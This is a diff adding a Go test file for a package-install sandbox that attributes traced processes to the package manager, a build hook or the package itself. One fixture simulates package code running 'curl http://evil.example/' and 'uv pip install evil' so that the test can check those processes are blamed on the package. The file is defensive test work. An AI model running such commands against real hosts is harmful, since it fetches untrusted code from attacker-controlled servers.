@@ -1,0 +1,111 @@
+package sandbox
+
+import (
+	"crypto/rand"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/verifymcp/verifymcp/evidence"
+	"github.com/verifymcp/verifymcp/sandbox/canary"
+)
+
+// uvQuery is uv's query of an interpreter, run with the Python py.
+func uvQuery(pid, ppid int, py string) execEvent {
+	return execEvent{Type: "exec", PID: pid, PPID: ppid, Time: time.Unix(int64(pid), 0),
+		Argv: []string{py, "-I", "-B", "-c", `import sys; sys.path = [__import__("os").fsdecode(b"/tmp/.tmpX")] + sys.path; from python.get_interpreter_info import main; main()`}}
+}
+
+const (
+	uvVenv    = "uv venv /work/tree/venv --python /usr/bin/python3 --no-project --quiet --color never"
+	uvInstall = "uv pip install --python /work/tree/venv/bin/python --offline --no-index --find-links /work/tree/.verifymcp/dist --find-links /work/tree/.verifymcp/built --no-deps --no-build --link-mode copy --color never -r /work/tree/.verifymcp/requirements.txt"
+	uvBuild   = "uv build --wheel --offline --no-index --find-links /work/tree/.verifymcp/dist --out-dir /work/tree/.verifymcp/built --python /usr/bin/python3 --color never /work/tree/.verifymcp/dist/x-1.0.tar.gz"
+)
+
+// testWatch is a watch with only what addProcesses needs.
+func testWatch(t *testing.T, driver int, forks map[int][]forkRec) *watch {
+	t.Helper()
+	set, err := canary.Generate(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return &watch{r: &run{}, canary: set, b: &evidence.Behavior{}, driver: driver, obs: &observerHandle{forks: forks}}
+}
+
+// TestProvenanceDriverExecMissed: the PyPI build driver (PID 16) reported
+// its own PID, but its exec, and in some cases uv's, came before the
+// window the tracer's events were taken from (the tracer attached late, or
+// the release was timed late on a busy machine). uv and the Python it
+// queries are the sandbox's, never the package's; a process whose
+// ancestry cannot be established is unknown and blames no one; package
+// code under the build backend is still the package's, through a process
+// that forked without exec'ing.
+func TestProvenanceDriverExecMissed(t *testing.T) {
+	fork := func(ppid int) []forkRec { return []forkRec{{PPID: ppid}} }
+	tests := []struct {
+		name   string
+		events []execEvent
+		forks  map[int][]forkRec
+		want   []evidence.Provenance
+	}{
+		{
+			name: "wheel_uv_venv_first",
+			events: []execEvent{
+				ev(23, 16, uvVenv),
+				uvQuery(26, 23, "/usr/bin/python3"),
+				ev(27, 16, uvInstall),
+				uvQuery(31, 27, "/work/tree/venv/bin/python"),
+			},
+			want: []evidence.Provenance{pm, pm, pm, pm},
+		},
+		{
+			name: "wheel_uv_venv_missed_too",
+			events: []execEvent{
+				uvQuery(26, 23, "/usr/bin/python3"),
+				ev(27, 16, uvInstall),
+				uvQuery(31, 27, "/work/tree/venv/bin/python"),
+			},
+			forks: map[int][]forkRec{23: fork(16), 26: fork(23), 27: fork(16), 31: fork(27)},
+			want:  []evidence.Provenance{provenanceUnknown, pm, pm},
+		},
+		{
+			name: "parent_never_seen_no_fork",
+			events: []execEvent{
+				ev(27, 16, uvInstall),
+				uvQuery(31, 27, "/work/tree/venv/bin/python"),
+				ev(40, 39, "uv pip install something"),
+				ev(41, 39, "python3 -c print(1)"),
+			},
+			want: []evidence.Provenance{pm, pm, provenanceUnknown, provenanceUnknown},
+		},
+		{
+			name: "sdist_backend_and_its_children",
+			events: []execEvent{
+				ev(23, 16, uvVenv),
+				ev(30, 16, uvBuild),
+				ev(32, 30, "/work/tree/.verifymcp/uv-cache/builds-v0/.tmp/bin/python -c hook"),
+				ev(34, 33, "curl http://evil.example/"),
+				ev(35, 34, "uv pip install evil"),
+			},
+			forks: map[int][]forkRec{33: fork(32)},
+			want:  []evidence.Provenance{pm, pm, decl, pk, pk},
+		},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			w := testWatch(t, 16, tc.forks)
+			w.addProcesses(evidence.PhaseScripts, tc.events, nil)
+			if len(w.b.Processes) != len(tc.want) {
+				t.Fatalf("%d processes, want %d", len(w.b.Processes), len(tc.want))
+			}
+			for i, p := range w.b.Processes {
+				if p.Provenance != tc.want[i] {
+					t.Errorf("%s: %s, want %s", strings.Join(p.Argv, " "), p.Provenance, tc.want[i])
+				}
+				if blames := !p.Expected; blames != (tc.want[i] == pk || tc.want[i] == decl) {
+					t.Errorf("%s: expected=%v with provenance %s", strings.Join(p.Argv, " "), p.Expected, p.Provenance)
+				}
+			}
+		})
+	}
+}
